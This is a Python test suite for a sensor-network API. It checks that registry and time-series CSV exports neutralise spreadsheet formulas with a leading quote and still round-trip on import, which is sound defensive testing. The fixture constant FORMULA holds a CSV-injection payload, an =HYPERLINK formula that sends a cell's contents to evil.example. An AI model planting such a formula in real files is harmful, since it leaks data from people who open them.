"""CSV files the API writes hold no spreadsheet formulas: registry text and device text
are neutralised with a leading quote, numbers stay numbers, and a registry export still
imports back unchanged. Over the real API, registry and InfluxDB."""

from __future__ import annotations

import csv
import io
import time
from datetime import UTC, datetime, timedelta

import httpx
from hypothesis import given
from hypothesis import strategies as st
from support import running

from sensornet.catalogue import load_catalogue
from sensornet.csv_cells import TRIGGERS, neutralise, restore
from sensornet.influx import InfluxClient
from sensornet.lineprotocol import encode_lines, encode_point
from sensornet.registry.store import DeviceInfo
from sensornet.settings import Settings
from sensornet.storage_layout import apply_storage_layout
from wiring.parts import register_fleet, run_api

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@given(st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "a", "1", " "])))
def test_neutralise_then_restore_gives_the_text_back(text: str) -> None:
    out = neutralise(text)
    assert not out.startswith(TRIGGERS)
    assert restore(out) == text


@given(st.text())
def test_any_text_round_trips(text: str) -> None:
    assert restore(neutralise(text)) == text
    assert not neutralise(text).startswith(TRIGGERS)


def sensor(sensor_id: str, text: str, lat: float = 31.2235) -> dict[str, object]:
    return {
        "id": sensor_id,
        "type": "noise",
        "subdistrict": "beizhan",
        "lat": lat,
        "lon": 121.4455,
        "address": text,
        "description": text,
        "owner_department": text,
        "firmware": text[:60],
    }


async def test_registry_export_neutralises_text_and_keeps_numbers(
    settings: Settings, engineer_headers: dict[str, str]
) -> None:
    texts = {f"NS-X{i}": f"{c}1+1 {FORMULA}" for i, c in enumerate("=+-@")}
    texts["NS-XQ"] = "'=already quoted"
    texts["NS-XP"] = "plain - text @ home = fine"
    base = f"http://{settings.api_host}:{settings.api_port}"
    async with (
        running(run_api, settings),
        httpx.AsyncClient(base_url=base, headers=engineer_headers) as http,
    ):
        for sensor_id, text in texts.items():
            r = await http.post("/sensors", json=sensor(sensor_id, text))
            assert r.status_code == 201, r.text
        for sensor_id, char in (("NS-XT", "\t"), ("NS-XR", "\r")):
            r = await http.post("/sensors", json=sensor(sensor_id, f"{char}=1+1"))
            assert r.status_code == 201, r.text
        exported = (await http.get("/sensors/export.csv")).text
        rows = {r["id"]: r for r in csv.DictReader(io.StringIO(exported))}
        for sensor_id, text in texts.items():
            row = rows[sensor_id]
            for column in ("address", "description", "owner_department"):
                cell = row[column]
                assert not cell.startswith(TRIGGERS), (sensor_id, column, cell)
                expected = text if sensor_id == "NS-XP" else "'" + text
                assert cell == expected, (sensor_id, column, cell)
            assert row["lat"] == "31.2235"  # a number, not neutralised text
        for sensor_id in ("NS-XT", "NS-XR"):
            assert rows[sensor_id]["description"].startswith("'")
        # the export imports back as it was (import trims whitespace: those two aside)
        kept = "\r\n".join(
            line
            for line in exported.split("\r\n")
            if not line.startswith(("NS-XT", "NS-XR", '"NS-XR'))
        )
        r = await http.post(
            "/sensors/import.csv", content=kept, headers={"Content-Type": "text/csv"}
        )
        assert r.status_code == 200, r.text
        assert (r.json()["unchanged"], r.json()["updated"]) == (len(texts), 0)
        stored = (await http.get("/sensors/NS-X0")).json()
        assert stored["description"] == texts["NS-X0"]


async def test_range_csv_neutralises_device_text(
    settings: Settings, influx: InfluxClient, viewer_headers: dict[str, str]
) -> None:
    """A string quantity holds what a device sent; a number stays a number."""
    light = DeviceInfo("SL-X1", "street_light", "beizhan", 31.247, 121.475, "active")
    await apply_storage_layout(influx, settings, load_catalogue())
    await register_fleet(settings, [light])
    now = time.time_ns()
    tags = {"sensor_id": light.id, "subdistrict": light.subdistrict}
    points = [
        encode_point(light.type, tags, {"power": -1.5, "on": True, "mode": FORMULA}, now - 10**9),
        encode_point(light.type, tags, {"power": 80.0, "on": True, "mode": "auto"}, now),
    ]
    await influx.write(encode_lines(points))
    base = f"http://{settings.api_host}:{settings.api_port}"
    async with (
        running(run_api, settings),
        httpx.AsyncClient(base_url=base, headers=viewer_headers) as http,
    ):
        start = datetime.now(UTC) - timedelta(minutes=10)  # raw readings
        r = await http.get(f"/sensors/{light.id}/series.csv", params={"start": start.isoformat()})
        assert r.status_code == 200, r.text
    header, *rows = list(csv.reader(io.StringIO(r.text)))
    mode, power = header.index("mode"), header.index("power [W]")
    assert [(row[mode], row[power]) for row in rows] == [("'" + FORMULA, "-1.5"), ("auto", "80")]
